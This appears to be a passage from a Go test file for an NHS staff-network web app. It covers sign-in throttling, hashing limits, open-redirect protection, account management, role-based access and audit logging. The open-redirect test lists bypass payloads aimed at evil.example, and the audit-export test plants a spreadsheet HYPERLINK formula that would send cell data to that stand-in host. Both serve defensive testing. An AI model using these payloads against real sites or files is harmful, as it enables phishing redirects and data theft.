package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"staffnet/internal/auth"
	"staffnet/internal/network"
	"staffnet/internal/orgs"
	"staffnet/internal/store"
	"staffnet/internal/store/storetest"
	"staffnet/internal/web"
)

// newAppWith serves staffnet with sign-in options.
func newAppWith(t *testing.T, db *store.DB, opts web.AccountOptions) *app {
	t.Helper()
	a, _ := newAppConfig(t, db, web.Config{Accounts: opts})
	return a
}

const goodPassword = "correct horse battery"

func newAccount(t *testing.T, db *store.DB, email string, role auth.Role) *store.User {
	t.Helper()
	u, err := db.AddUser(context.Background(), store.User{Email: email, Role: role, Org: orgOf[role], PasswordHash: auth.HashPassword(goodPassword)})
	if err != nil {
		t.Fatal(err)
	}
	return u
}

var errorSummaryRE = regexp.MustCompile(`(?s)<ul class="nhsuk-list nhsuk-error-summary__list">\s*<li><a href="[^"]*">([^<]*)</a>`)

func summary(body string) string {
	m := errorSummaryRE.FindStringSubmatch(body)
	if m == nil {
		return ""
	}
	return m[1]
}

// TestSignInThrottle mounts a guessing attack: 30 wrong passwords for one
// account, then the right one, which must be refused with a clear
// message. An unknown account must get exactly the same answers.
func TestSignInThrottle(t *testing.T) {
	eachDB(t, func(t *testing.T, db *store.DB) {
		a := newApp(t, db)
		newAccount(t, db, "lead@example.nhs.uk", auth.Analyst)
		attack := func(email string) (statuses []int, last *http.Response, lastBody string) {
			for i := range 30 {
				res, body := a.post("/login", url.Values{"email": {email}, "password": {"guess number " + string(rune('a'+i))}})
				statuses = append(statuses, res.StatusCode)
				if i == 29 {
					lastBody = body
				}
			}
			last, lastBody = a.post("/login", url.Values{"email": {email}, "password": {goodPassword}})
			return statuses, last, lastBody
		}
		known, res, body := attack("lead@example.nhs.uk")
		if res.StatusCode != http.StatusTooManyRequests || res.Header.Get("Set-Cookie") != "" {
			t.Fatalf("right password after 30 wrong ones: %d (cookie %q)", res.StatusCode, res.Header.Get("Set-Cookie"))
		}
		msg := summary(body)
		if !strings.Contains(msg, "Too many failed attempts") || !strings.Contains(msg, "Wait 1 minute") || res.Header.Get("Retry-After") == "" {
			t.Fatalf("lock message %q (Retry-After %q)", msg, res.Header.Get("Retry-After"))
		}
		unknown, res2, body2 := attack("nobody@example.nhs.uk")
		if fmt.Sprint(known) != fmt.Sprint(unknown) {
			t.Errorf("statuses differ: known %v, unknown %v", known, unknown)
		}
		if res2.StatusCode != res.StatusCode || summary(body2) != msg {
			t.Errorf("unknown account: %d %q; known: %d %q", res2.StatusCode, summary(body2), res.StatusCode, msg)
		}
		if strings.ReplaceAll(body2, "nobody@", "lead@") != body {
			t.Error("the locked pages for a known and an unknown account differ")
		}
		// The first four are ordinary failures, the fifth locks.
		if known[0] != http.StatusUnauthorized || known[3] != http.StatusUnauthorized || known[4] != http.StatusTooManyRequests {
			t.Errorf("statuses %v", known)
		}
		// Lockouts are in the audit log, with no address and no password.
		var lines []string
		db.EachAudit(context.Background(), func(e store.AuditEntry) error {
			lines = append(lines, e.Action+"|"+e.Target+"|"+e.Detail)
			return nil
		})
		if len(lines) != 2 || !strings.HasPrefix(lines[0], "sign-in locked|lead@example.nhs.uk|the account") || !strings.HasPrefix(lines[1], "sign-in locked|an email address with no account|") {
			t.Errorf("audit %q", lines)
		}
		for _, l := range lines {
			if strings.Contains(l, "127.0.0.1") || strings.Contains(l, "guess") || strings.Contains(l, "nobody") {
				t.Errorf("audit line %q holds an address, a password or a typed email", l)
			}
		}
	})
}

// TestSignInAddressThrottle spreads guesses over many accounts from one
// address: the address is locked even for an account with no failures.
func TestSignInAddressThrottle(t *testing.T) {
	t.Parallel()
	db, dir := sqliteDir(t)
	th := auth.DefaultThrottle
	th.AddressLimit = 3
	a := newAppWith(t, db, web.AccountOptions{Throttle: th, TrustProxy: true})
	newAccount(t, db, "fresh@example.nhs.uk", auth.Analyst)
	from := func(ip string) []string { return []string{"X-Forwarded-For", "198.51.100.9, " + ip} }
	for _, e := range []string{"a@example.nhs.uk", "b@example.nhs.uk", "c@example.nhs.uk"} {
		a.post("/login", url.Values{"email": {e}, "password": {"wrong wrong wrong"}}, from("203.0.113.5")...)
	}
	res, body := a.post("/login", url.Values{"email": {"fresh@example.nhs.uk"}, "password": {goodPassword}}, from("203.0.113.5")...)
	if res.StatusCode != http.StatusTooManyRequests || !strings.Contains(summary(body), "from your network") {
		t.Fatalf("locked address: %d %q", res.StatusCode, summary(body))
	}
	// The proxy's entry is the address; the client's own claim is not.
	res, _ = a.post("/login", url.Values{"email": {"fresh@example.nhs.uk"}, "password": {goodPassword}}, from("203.0.113.6")...)
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("another address: %d", res.StatusCode)
	}
	// Neither the addresses nor the typed email addresses are stored.
	files, _ := os.ReadDir(dir)
	for _, fi := range files {
		b, err := os.ReadFile(filepath.Join(dir, fi.Name()))
		if err != nil {
			t.Fatal(err)
		}
		for _, needle := range []string{"203.0.113.5", "198.51.100.9", "127.0.0.1", "a@example.nhs.uk"} {
			if bytes.Contains(b, []byte(needle)) {
				t.Errorf("%s contains %q", fi.Name(), needle)
			}
		}
	}
}

// TestHashingBounded sends 12 wrong sign-ins at once with two hashing
// slots: never more than two hashes run together (each costs 64 MiB).
func TestHashingBounded(t *testing.T) {
	t.Parallel()
	db := storetest.SQLite(t)
	var running, peak atomic.Int32
	two := make(chan struct{})
	var once sync.Once
	// Waiting is not what this test is about: a slot is waited for as long
	// as it takes, so no request gets a 503 however slow the machine.
	opts := web.AccountOptions{HashSlots: 2, HashWait: time.Hour, OnHash: func() func() {
		n := running.Add(1)
		for {
			p := peak.Load()
			if n <= p || peak.CompareAndSwap(p, n) {
				break
			}
		}
		if n == 2 {
			once.Do(func() { close(two) })
		}
		<-two // the first hash waits for a second, so the bound is reached
		return func() { running.Add(-1) }
	}}
	a := newAppWith(t, db, opts)
	var wg sync.WaitGroup
	statuses := make([]int, 12)
	for i := range statuses {
		wg.Add(1)
		go func() {
			defer wg.Done()
			res, _ := a.post("/login", url.Values{"email": {string(rune('a'+i)) + "@example.nhs.uk"}, "password": {"wrong password here"}})
			statuses[i] = res.StatusCode
		}()
	}
	wg.Wait()
	if p := peak.Load(); p != 2 {
		t.Fatalf("at most %d hashes ran at once, want exactly the bound, 2", p)
	}
	for i, s := range statuses {
		if s != http.StatusUnauthorized {
			t.Errorf("sign-in %d: %d", i, s)
		}
	}
}

// TestHashingQueueTimeout: with the only slot held, a sign-in waits
// HashWait and gets a 503 page, and its attempt is not counted.
func TestHashingQueueTimeout(t *testing.T) {
	t.Parallel()
	db := storetest.SQLite(t)
	entered, release := make(chan struct{}), make(chan struct{})
	var first atomic.Bool
	a := newAppWith(t, db, web.AccountOptions{HashSlots: 1, HashWait: 20 * time.Millisecond, OnHash: func() func() {
		if first.CompareAndSwap(false, true) {
			close(entered)
			<-release
		}
		return func() {}
	}})
	newAccount(t, db, "lead@example.nhs.uk", auth.Analyst)
	done := make(chan int)
	go func() {
		res, _ := a.post("/login", url.Values{"email": {"x@example.nhs.uk"}, "password": {"wrong password here"}})
		done <- res.StatusCode
	}()
	<-entered
	res, body := a.post("/login", url.Values{"email": {"lead@example.nhs.uk"}, "password": {goodPassword}})
	if res.StatusCode != http.StatusServiceUnavailable || !strings.Contains(body, "Too many people are signing in") || res.Header.Get("Retry-After") == "" {
		t.Fatalf("busy: %d", res.StatusCode)
	}
	close(release)
	if s := <-done; s != http.StatusUnauthorized {
		t.Fatalf("the held sign-in: %d", s)
	}
	// Five more tries are still allowed: the 503 was not counted.
	for i := range 4 {
		if res, _ := a.post("/login", url.Values{"email": {"lead@example.nhs.uk"}, "password": {"wrong password here"}}); res.StatusCode != http.StatusUnauthorized {
			t.Fatalf("wrong password %d: %d", i, res.StatusCode)
		}
	}
	if res, _ := a.post("/login", url.Values{"email": {"lead@example.nhs.uk"}, "password": {goodPassword}}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("fifth try, right password: %d", res.StatusCode)
	}
}

// TestOpenRedirect: only paths on this site survive as the destination
// after sign-in.
func TestOpenRedirect(t *testing.T) {
	t.Parallel()
	a := newApp(t, storetest.SQLite(t))
	newAccount(t, a.db, "lead@example.nhs.uk", auth.Admin)
	evil := []string{
		"/\t/evil.example/phish", "/\n/evil.example", "/\r\n/evil.example", "/\x00/evil.example", "/ /evil.example",
		"//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\\/evil.example",
		"https://evil.example/", "http:evil.example", "https:/evil.example", "javascript:alert(1)", "evil.example",
		"/%2F/evil.example", "/%2f%2fevil.example", "/%5Cevil.example", "/%09/evil.example", "%2F%2Fevil.example",
		"/\u2215\u2215evil.example", "/\uff0f/evil.example", " /evil.example", "",
	}
	for _, next := range evil {
		res, _ := a.post("/login", url.Values{"email": {"lead@example.nhs.uk"}, "password": {goodPassword}, "next": {next}})
		if loc := res.Header.Get("Location"); res.StatusCode != http.StatusSeeOther || loc != "/admin" {
			t.Errorf("next %q: %d to %q, want /admin", next, res.StatusCode, loc)
		}
		// The sign-in page carries none of it on either.
		_, body := a.get("/login?next=" + url.QueryEscape(next))
		if f := form(body); f.Get("next") != "" {
			t.Errorf("login form carries next %q for %q", f.Get("next"), next)
		}
	}
	// The attack as reported: the query string decodes %09 to a tab.
	_, body := a.get("/login?next=/%09/evil.example/phish")
	if f := form(body); f.Get("next") != "" {
		t.Errorf("login form carries %q", f.Get("next"))
	}
	for _, next := range []string{"/admin/users", "/networks?type=bme&page=2", "/admin/surveys/x/findings#q1", "/wres/org/RJ1"} {
		res, _ := a.post("/login", url.Values{"email": {"lead@example.nhs.uk"}, "password": {goodPassword}, "next": {next}})
		if loc := res.Header.Get("Location"); loc != next {
			t.Errorf("next %q: redirected to %q", next, loc)
		}
	}
	// A signed-out visit to a page comes back to it after sign-in.
	res, _ := a.get("/admin/users?x=1")
	if loc := res.Header.Get("Location"); loc != "/login?next=%2Fadmin%2Fusers%3Fx%3D1" {
		t.Errorf("sign-in redirect %q", loc)
	}
}

// client is a signed-in browser.
type client struct {
	t    *testing.T
	a    *app
	c    *http.Client
	csrf string
}

func login(t *testing.T, a *app, email, password string) *client {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	res, err := c.PostForm(a.srv.URL+"/login", url.Values{"email": {email}, "password": {password}})
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign in as %s: %d", email, res.StatusCode)
	}
	if res, err = c.Get(a.srv.URL + "/account/password"); err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	m := regexp.MustCompile(`name="_csrf" value="([^"]+)"`).FindStringSubmatch(string(b))
	if res.StatusCode != 200 || m == nil {
		t.Fatalf("sign in as %s: %d %s", email, res.StatusCode, summary(string(b)))
	}
	return &client{t: t, a: a, c: c, csrf: m[1]}
}

func (c *client) do(method, path string, v url.Values) (*http.Response, string) {
	c.t.Helper()
	if v != nil {
		v.Set("_csrf", c.csrf)
	}
	return sendOnce(c.t, c.c, formRequest(method, c.a.srv.URL+path, v))
}

func TestAccountLifecycle(t *testing.T) {
	eachDB(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		a := newApp(t, db)
		if _, _, err := db.UpsertOrganisations(ctx, []orgs.Organisation{{Code: "RAA", Name: "Alpha Trust", Region: "Y56"}, {Code: "RBB", Name: "Beta Trust", Region: "Y56"}}); err != nil {
			t.Fatal(err)
		}
		net := &network.Network{OrgCode: "RAA", Type: network.TypeBME, Status: network.StatusActive, Name: "Alpha REN"}
		if err := db.CreateNetwork(ctx, net); err != nil {
			t.Fatal(err)
		}
		newAccount(t, db, "boss@example.nhs.uk", auth.Admin)
		boss := login(t, a, "boss@example.nhs.uk", goodPassword)
		id := func(email string) string {
			u, err := db.UserByEmail(ctx, email)
			if err != nil {
				t.Fatal(err)
			}
			return strconv.FormatInt(u.ID, 10)
		}

		// Add a network lead: the network must belong to the organisation.
		res, body := boss.do("POST", "/admin/users", url.Values{"email": {"lead@example.nhs.uk"}, "role": {"network_lead"}, "org": {"RBB"}, "network": {strconv.FormatInt(net.ID, 10)}, "password": {"password12345"}})
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, `href="#network"`) || !strings.Contains(body, `href="#password"`) || !strings.Contains(body, "too easy to guess") {
			t.Fatalf("bad add: %d %s", res.StatusCode, summary(body))
		}
		res, _ = boss.do("POST", "/admin/users", url.Values{"email": {"lead@example.nhs.uk"}, "role": {"network_lead"}, "org": {"raa"}, "network": {strconv.FormatInt(net.ID, 10)}, "password": {goodPassword}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("add: %d", res.StatusCode)
		}
		if u, _ := db.UserByEmail(ctx, "lead@example.nhs.uk"); u.NetworkID != net.ID || u.Org != "RAA" {
			t.Fatalf("stored lead %+v", u)
		}
		lead := login(t, a, "lead@example.nhs.uk", goodPassword)
		if res, _ := lead.do("GET", "/account/password", nil); res.StatusCode != 200 {
			t.Fatal("lead not signed in")
		}

		// Change role; a demotion of the only admin is refused.
		leadID := id("lead@example.nhs.uk")
		res, body = boss.do("POST", "/admin/users/"+id("boss@example.nhs.uk"), url.Values{"role": {"analyst"}})
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(summary(body), "only administrator") {
			t.Fatalf("demote the only admin: %d %q", res.StatusCode, summary(body))
		}
		res, _ = boss.do("POST", "/admin/users/"+leadID, url.Values{"role": {"org_admin"}, "org": {"RBB"}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("set role: %d", res.StatusCode)
		}
		if u, _ := db.UserByEmail(ctx, "lead@example.nhs.uk"); u.Role != auth.OrgAdmin || u.Org != "RBB" || u.NetworkID != 0 {
			t.Fatalf("changed lead %+v", u)
		}

		// Disable: the session ends at once, and sign-in is refused.
		if res, _ := boss.do("POST", "/admin/users/"+leadID+"/disable", url.Values{}); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("disable: %d", res.StatusCode)
		}
		if res, _ := lead.do("GET", "/account/password", nil); res.StatusCode != http.StatusSeeOther || !strings.HasPrefix(res.Header.Get("Location"), "/login") {
			t.Fatalf("disabled account's session: %d", res.StatusCode)
		}
		res, body = a.post("/login", url.Values{"email": {"lead@example.nhs.uk"}, "password": {goodPassword}})
		if res.StatusCode != http.StatusForbidden || !strings.Contains(summary(body), "closed") {
			t.Fatalf("disabled sign-in: %d %q", res.StatusCode, summary(body))
		}
		if res, body := boss.do("POST", "/admin/users/"+leadID+"/reset", url.Values{}); res.StatusCode != http.StatusConflict {
			t.Fatalf("reset link for a disabled account: %d %q", res.StatusCode, summary(body))
		}
		if res, _ := boss.do("POST", "/admin/users/"+leadID+"/enable", url.Values{}); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("enable: %d", res.StatusCode)
		}
		lead = login(t, a, "lead@example.nhs.uk", goodPassword)

		// A reset link: shown once, single use, ends the old sessions.
		res, body = boss.do("POST", "/admin/users/"+leadID+"/reset", url.Values{})
		m := regexp.MustCompile(`<code id="reset-link">http://[^/]+(/reset/[A-Za-z0-9_-]{43})</code>`).FindStringSubmatch(body)
		if res.StatusCode != 200 || m == nil {
			t.Fatalf("reset link: %d", res.StatusCode)
		}
		link := m[1]
		if res, body := a.get(link); res.StatusCode != 200 || !strings.Contains(body, "lead@example.nhs.uk") {
			t.Fatalf("reset form: %d", res.StatusCode)
		}
		res, body = a.post(link, url.Values{"password": {"qwertyqwerty"}, "password_again": {"qwertyqwerty"}})
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(summary(body), "too easy to guess") {
			t.Fatalf("common password by reset: %d %q", res.StatusCode, summary(body))
		}
		const newPW = "a brand new passphrase"
		res, _ = a.post(link, url.Values{"password": {newPW}, "password_again": {newPW}})
		if res.StatusCode != http.StatusSeeOther || !strings.Contains(res.Header.Get("Set-Cookie"), "staffnet_session=") {
			t.Fatalf("reset: %d", res.StatusCode)
		}
		if res, _ := a.post(link, url.Values{"password": {newPW}, "password_again": {newPW}}); res.StatusCode != http.StatusGone {
			t.Fatalf("reset link used twice: %d", res.StatusCode)
		}
		if res, _ := lead.do("GET", "/account/password", nil); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("session survived the reset: %d", res.StatusCode)
		}
		login(t, a, "lead@example.nhs.uk", newPW)

		// Added with no starting password, an account comes with a reset link.
		res, body = boss.do("POST", "/admin/users", url.Values{"email": {"fresh@example.nhs.uk"}, "role": {"analyst"}})
		if res.StatusCode != 200 || !strings.Contains(body, "The account has been added.") || !regexp.MustCompile(`<code id="reset-link">http://[^/]+/reset/[A-Za-z0-9_-]{43}</code>`).MatchString(body) {
			t.Fatalf("add with a link: %d", res.StatusCode)
		}
		if res, _ := a.post("/login", url.Values{"email": {"fresh@example.nhs.uk"}, "password": {""}}); res.StatusCode != http.StatusUnauthorized {
			t.Fatalf("empty password: %d", res.StatusCode)
		}

		// Remove, after a confirmation page: gone, signed out, cannot sign in.
		if res, body := boss.do("GET", "/admin/users/"+leadID+"/remove", nil); res.StatusCode != 200 || h1(body) != "Remove lead@example.nhs.uk?" {
			t.Fatalf("remove page: %d %q", res.StatusCode, h1(body))
		}
		if res, _ := boss.do("POST", "/admin/users/"+leadID+"/remove", url.Values{}); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("remove: %d", res.StatusCode)
		}
		if _, body := boss.do("GET", "/admin/users?removed=lead%40example.nhs.uk", nil); !strings.Contains(body, "lead@example.nhs.uk has been removed") {
			t.Error("no confirmation of the removal")
		}
		if res, _ := boss.do("GET", "/admin/users/"+leadID, nil); res.StatusCode != http.StatusNotFound {
			t.Fatalf("removed account page: %d", res.StatusCode)
		}
		if res, _ := a.post("/login", url.Values{"email": {"lead@example.nhs.uk"}, "password": {newPW}}); res.StatusCode != http.StatusUnauthorized {
			t.Fatalf("removed account signs in: %d", res.StatusCode)
		}

		// The audit log has every step, readable and downloadable, and
		// nothing can change it.
		_, body = boss.do("GET", "/admin/audit", nil)
		for _, want := range []string{"account added", "account changed", "account disabled", "account enabled", "password reset link issued", "password reset", "account removed"} {
			if !strings.Contains(body, ">"+want+"<") {
				t.Errorf("audit page lacks %q", want)
			}
		}
		res, body = boss.do("GET", "/admin/audit.csv", nil)
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || res.Header.Get("Content-Type") != "text/csv; charset=utf-8" || len(rows) != 10 || strings.Join(rows[0], ",") != "time_utc,actor,action,target,detail" {
			t.Fatalf("audit CSV: %v %d rows\n%s", err, len(rows), body)
		}
		if rows[1][1] != "boss@example.nhs.uk" || rows[1][2] != "account added" || rows[1][3] != "lead@example.nhs.uk" || !strings.Contains(rows[1][4], "network "+strconv.FormatInt(net.ID, 10)) {
			t.Errorf("first audit row %q", rows[1])
		}
		for _, method := range []string{"POST", "PUT", "DELETE", "PATCH"} {
			for _, p := range []string{"/admin/audit", "/admin/audit.csv", "/admin/audit/1"} {
				if res, _ := boss.do(method, p, url.Values{}); res.StatusCode != http.StatusMethodNotAllowed && res.StatusCode != http.StatusNotFound {
					t.Errorf("%s %s: %d", method, p, res.StatusCode)
				}
			}
		}
		if n, _ := db.CountAudit(ctx); n != 9 {
			t.Errorf("audit entries %d, want 9", n)
		}
	})
}

func TestChangeOwnPassword(t *testing.T) {
	t.Parallel()
	a := newApp(t, storetest.SQLite(t))
	newAccount(t, a.db, "ana@example.nhs.uk", auth.Analyst)
	me := login(t, a, "ana@example.nhs.uk", goodPassword)
	other := login(t, a, "ana@example.nhs.uk", goodPassword) // another browser
	const newPW = "plum orchard lantern"
	res, body := me.do("POST", "/account/password", url.Values{"current": {"not my password"}, "password": {newPW}, "password_again": {newPW}})
	if res.StatusCode != http.StatusUnprocessableEntity || summary(body) != "Your current password is not right" {
		t.Fatalf("wrong current: %d %q", res.StatusCode, summary(body))
	}
	res, body = me.do("POST", "/account/password", url.Values{"current": {goodPassword}, "password": {"Password123!"}, "password_again": {"Password123!"}})
	if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(summary(body), "too easy to guess") {
		t.Fatalf("common new password: %d %q", res.StatusCode, summary(body))
	}
	res, body = me.do("POST", "/account/password", url.Values{"current": {goodPassword}, "password": {"ana@example.nhs.uk1"}, "password_again": {"ana@example.nhs.uk1"}})
	if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(summary(body), "email") {
		t.Fatalf("email as password: %d %q", res.StatusCode, summary(body))
	}
	res, _ = me.do("POST", "/account/password", url.Values{"current": {goodPassword}, "password": {newPW}, "password_again": {newPW}})
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("change: %d", res.StatusCode)
	}
	// This browser carries on in a new session; the other is signed out.
	if res, body := me.do("GET", "/account/password?done=1", nil); res.StatusCode != 200 || !strings.Contains(body, "Your password has been changed") {
		t.Fatalf("after the change: %d", res.StatusCode)
	}
	if res, _ := other.do("GET", "/account/password", nil); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("other session survived: %d", res.StatusCode)
	}
	if res, _ := a.post("/login", url.Values{"email": {"ana@example.nhs.uk"}, "password": {goodPassword}}); res.StatusCode != http.StatusUnauthorized {
		t.Fatalf("old password: %d", res.StatusCode)
	}
	login(t, a, "ana@example.nhs.uk", newPW)
}

// TestSessionDatabaseError: a failing database is a 500, not "signed out".
func TestSessionDatabaseError(t *testing.T) {
	t.Parallel()
	db := storetest.SQLite(t)
	a := newApp(t, db)
	newAccount(t, db, "ana@example.nhs.uk", auth.Analyst)
	me := login(t, a, "ana@example.nhs.uk", goodPassword)
	db.Close()
	if res, _ := me.do("GET", "/admin", nil); res.StatusCode != http.StatusInternalServerError {
		t.Fatalf("session lookup on a closed database: %d, want 500", res.StatusCode)
	}
}

// TestAccountRoutesByRole is the authorisation matrix of the account,
// audit and password routes for every role.
func TestAccountRoutesByRole(t *testing.T) {
	eachDB(t, func(t *testing.T, db *store.DB) {
		a := newApp(t, db)
		target := newAccount(t, db, "target@example.nhs.uk", auth.Analyst)
		tid := "/admin/users/" + strconv.FormatInt(target.ID, 10)
		if _, _, err := db.UpsertOrganisations(context.Background(), []orgs.Organisation{{Code: "RJ1", Name: "Guy's and St Thomas'"}}); err != nil {
			t.Fatal(err)
		}
		clients := map[string]*client{}
		for _, r := range auth.Roles {
			newAccount(t, db, string(r)+"@example.nhs.uk", r)
			clients[string(r)] = login(t, a, string(r)+"@example.nhs.uk", goodPassword)
		}
		anon := &client{t: t, a: a, c: &http.Client{}}
		clients["public"] = anon
		routes := []struct {
			method, path string
			form         url.Values
			admin        int // what an admin gets; every other role gets 403, the public a redirect to sign in
		}{
			{"GET", "/admin/users", nil, 200},
			{"POST", "/admin/users", url.Values{"email": {"x"}}, http.StatusUnprocessableEntity},
			{"GET", tid, nil, 200},
			{"POST", tid, url.Values{"role": {"analyst"}}, http.StatusSeeOther},
			{"POST", tid + "/reset", url.Values{}, 200},
			{"POST", tid + "/disable", url.Values{}, http.StatusSeeOther},
			{"POST", tid + "/enable", url.Values{}, http.StatusSeeOther},
			{"GET", tid + "/remove", nil, 200},
			{"GET", "/admin/audit", nil, 200},
			{"GET", "/admin/audit?page=2", nil, http.StatusNotFound},
			{"GET", "/admin/audit.csv", nil, 200},
			{"POST", "/admin/users/999999/remove", url.Values{}, http.StatusNotFound},
			{"GET", "/admin/users/invite", nil, 200},
			{"POST", "/admin/users/invite", url.Values{"email": {"x"}}, http.StatusUnprocessableEntity},
			// An organisation's admin or lead naming their own organisation
			// in the form is refused like everyone else but an administrator.
			{"POST", "/admin/users/invite", url.Values{"email": {"lead@example.nhs.uk"}, "role": {"network_lead"}, "org": {"RJ1"}}, 200},
		}
		for who, c := range clients {
			for _, rt := range routes {
				want := http.StatusForbidden
				switch who {
				case "admin":
					want = rt.admin
				case "public":
					want = http.StatusSeeOther
				}
				var f url.Values
				if rt.form != nil {
					f = url.Values{}
					for k, v := range rt.form {
						f[k] = v
					}
				}
				res, _ := c.do(rt.method, rt.path, f)
				if res.StatusCode != want {
					t.Errorf("%s %s %s: %d, want %d", who, rt.method, rt.path, res.StatusCode, want)
				}
				if who == "public" && want == http.StatusSeeOther && !strings.HasPrefix(res.Header.Get("Location"), "/login") {
					t.Errorf("public %s %s went to %q", rt.method, rt.path, res.Header.Get("Location"))
				}
			}
			// Every signed-in role may change its own password; the public is sent to sign in.
			res, _ := c.do("GET", "/account/password", nil)
			if want := map[bool]int{true: http.StatusSeeOther, false: 200}[who == "public"]; res.StatusCode != want {
				t.Errorf("%s GET /account/password: %d, want %d", who, res.StatusCode, want)
			}
			res, _ = c.do("POST", "/account/password", url.Values{"current": {"wrong"}})
			if want := map[bool]int{true: http.StatusSeeOther, false: http.StatusUnprocessableEntity}[who == "public"]; res.StatusCode != want {
				t.Errorf("%s POST /account/password: %d, want %d", who, res.StatusCode, want)
			}
			// Every signed-in role sees its own account page.
			res, _ = c.do("GET", "/account", nil)
			if want := map[bool]int{true: http.StatusSeeOther, false: 200}[who == "public"]; res.StatusCode != want {
				t.Errorf("%s GET /account: %d, want %d", who, res.StatusCode, want)
			}
			if res, _ := c.do("GET", "/invite/"+strings.Repeat("A", 43), nil); res.StatusCode != http.StatusGone {
				t.Errorf("%s made-up invitation: %d", who, res.StatusCode)
			}
			// A reset link is the only key to /reset: a made-up one is gone for everyone.
			if res, _ := c.do("GET", "/reset/"+strings.Repeat("A", 43), nil); res.StatusCode != http.StatusGone {
				t.Errorf("%s made-up reset link: %d", who, res.StatusCode)
			}
		}
		// The target is still there, unchanged but for what the admin did.
		if u, err := db.UserByID(context.Background(), target.ID); err != nil || u.Disabled || u.Role != auth.Analyst {
			t.Errorf("target %+v %v", u, err)
		}
		// An admin without the CSRF token changes nothing.
		ad := *clients["admin"]
		ad.csrf = "forged"
		if res, _ := ad.do("POST", tid+"/disable", url.Values{}); res.StatusCode != http.StatusForbidden {
			t.Errorf("disable without the token: %d", res.StatusCode)
		}
	})
}

// TestAuditOfAdministration: opening and closing a survey, publishing and
// unpublishing findings and uploading a WRES return each leave an entry
// naming who did it, and none holds a survey answer.
func TestAuditOfAdministration(t *testing.T) {
	t.Parallel()
	db := storetest.SQLite(t)
	a := wresApp(t, db)
	seed(t, db, 30, 5)
	newAccount(t, db, "boss@example.nhs.uk", auth.Admin)
	boss := login(t, a, "boss@example.nhs.uk", goodPassword)
	for _, p := range []string{"/close", "/open"} {
		if res, _ := boss.do("POST", "/admin/surveys/"+slug+p, url.Values{}); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("%s: %d", p, res.StatusCode)
		}
	}
	res, _ := boss.do("POST", "/admin/surveys/"+slug+"/publish", url.Values{"query": {""}, "title": {"All staff"}, "commentary": {"Everyone."}, "confirm": {"yes"}})
	loc := res.Header.Get("Location")
	if res.StatusCode != http.StatusSeeOther || !strings.HasPrefix(loc, "/findings/") {
		t.Fatalf("publish: %d %q", res.StatusCode, loc)
	}
	if res, _ := boss.do("POST", loc+"/unpublish", url.Values{}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("unpublish: %d", res.StatusCode)
	}
	// Withdrawing it again, or a view that does not exist, withdraws
	// nothing and so is not in the log.
	for _, p := range []string{loc, "/findings/nosuchview"} {
		if res, _ := boss.do("POST", p+"/unpublish", url.Values{}); res.StatusCode != http.StatusNotFound {
			t.Errorf("unpublish %s again: %d", p, res.StatusCode)
		}
	}
	code, _ := upload(t, boss.c, a.srv.URL+"/wres/upload", boss.csrf, "r.csv",
		[]byte("organisation_code,year,measure,ethnicity,staff_group,band,value\nRJ1,2025,headcount,white,,,100\nRJ1,2025,headcount,bme,,,40\n"))
	if code != 200 {
		t.Fatalf("upload: %d", code)
	}
	var got []string
	db.EachAudit(context.Background(), func(e store.AuditEntry) error {
		got = append(got, e.Actor+"|"+e.Action+"|"+e.Target)
		return nil
	})
	want := []string{
		"boss@example.nhs.uk|survey closed|" + slug,
		"boss@example.nhs.uk|survey opened|" + slug,
		"boss@example.nhs.uk|findings published|" + slug,
		"boss@example.nhs.uk|findings unpublished|" + loc,
		"boss@example.nhs.uk|WRES return uploaded|[{RJ1 2025}]",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("audit log:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// The download is safe to open in a spreadsheet.
	const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	db.Audit(context.Background(), store.AuditEntry{Actor: "boss@example.nhs.uk", Action: "account added", Target: formula})
	_, body := boss.do("GET", "/admin/audit.csv", nil)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || rows[len(rows)-1][3] != "'"+formula {
		t.Errorf("formula in the audit CSV: %v %q", err, rows[len(rows)-1])
	}
}

// TestSignInBurstOfRightPasswords: many staff behind one address sign in
// at once, and one person's sign-in is sent many times at once. Attempts
// count against the throttle only once settled, and right passwords
// never, so none of them is refused with a 429. (The wait for a hashing
// slot is unbounded here: with the default 10 s, a burst larger than the
// slots can hash in that time gets 503 pages, not locks.) Parallel wrong
// guesses for one account still get no more checks than its limit.
//
// To make the attempts overlap whatever the machine's speed, each burst's
// hashes wait until as many have started as can run together (every
// account's: one per slot; one account's: its limit), or until some
// sign-in has been answered without one (a refusal: the failure sought).
func TestSignInBurstOfRightPasswords(t *testing.T) {
	t.Parallel()
	db := storetest.SQLite(t)
	th := auth.DefaultThrottle
